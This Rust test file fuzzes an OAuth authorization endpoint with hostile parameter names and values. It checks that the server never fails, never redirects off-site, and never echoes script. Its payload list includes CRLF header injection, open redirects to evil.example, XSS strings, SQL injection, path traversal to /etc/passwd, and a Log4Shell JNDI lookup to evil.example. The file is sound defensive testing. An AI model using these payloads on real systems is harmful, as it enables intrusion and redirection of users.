//! Whatever stands in whichever parameter: no failure, no panic, and no way to anywhere else.

use pretty_assertions::assert_eq;

use crate::support::Trusted;

const NAMES: [&str; 16] = [
    "response_type",
    "response_mode",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "nonce",
    "code_challenge",
    "code_challenge_method",
    "max_age",
    "login_hint",
    "resource",
    "request",
    "request_uri",
    "prompt",
    "foo",
];

fn values() -> Vec<String> {
    let mut values: Vec<_> = [
        "",
        " ",
        "\0",
        "\n",
        "\r\nLocation: https://evil.example/",
        "none",
        "https://evil.example/",
        "//evil.example",
        "javascript:alert(1)",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
        "\"",
        "\\",
        "../../../etc/passwd",
        "{{ 7 * 7 }}",
        "${jndi:ldap://evil.example/}",
        "-1",
        "999999999999999999999999",
        "NaN",
        "true",
        "null",
        "[]",
        "{}",
        "\u{feff}",
        "\u{202e}",
        "\u{1F511}",
        "\u{10ffff}",
        "%s%n",
        "%",
        "code",
        "openid",
        "web",
    ]
    .map(str::to_owned)
    .to_vec();
    values.extend(["a".repeat(5_000), "é ".repeat(2_000), "x ".repeat(3_000)]);
    values
}

#[tokio::test]
async fn no_value_of_any_parameter_leads_elsewhere_or_makes_the_server_fail() {
    let mut trusted = Trusted::start().await;
    let requests = trusted.app.stored().requests().await;
    let uri = trusted.client.redirect_uri().to_owned();
    for value in values() {
        for name in NAMES {
            let silent = trusted.asking().with("prompt", "none");
            let instead = silent.clone().with(name, &value);
            let page = trusted.browser.get(&instead.target()).await;
            let beside = silent.and(name, &value);
            let twice = trusted.browser.get(&beside.target()).await;
            for page in [page, twice] {
                let location = page.answer.header("location");
                let own = location.starts_with(&format!("{uri}?"))
                    || location.starts_with(&trusted.app.url("/"));
                match page.status() {
                    303 => assert!(own, "{name} {value}: {location}"),
                    200 | 400 => assert_eq!(location, "", "{name} {value}"),
                    status => panic!("{name} {value}: {status}"),
                }
                assert!(!page.html().contains("alert(1)"), "{name}: {page:?}");
            }
        }
    }
    assert_eq!(trusted.app.deps.panics.count(), 0);
    // Without `prompt=none` some of them are right, and wait.
    let waiting = trusted.app.stored().requests().await;
    assert!(waiting.len() < requests.len() + 20, "{}", waiting.len());
}

#[tokio::test]
async fn names_of_any_kind_are_names_of_nothing() {
    let mut trusted = Trusted::start().await;
    for name in values() {
        let asking = trusted.asking().with("prompt", "none").and(&name, "1");
        let page = trusted.browser.get(&asking.target()).await;
        let expected = match name.as_str() {
            "\0" => 400,
            _ => 303,
        };
        assert_eq!(page.status(), expected, "{name:?}");
    }
    assert_eq!(trusted.app.deps.panics.count(), 0);
}
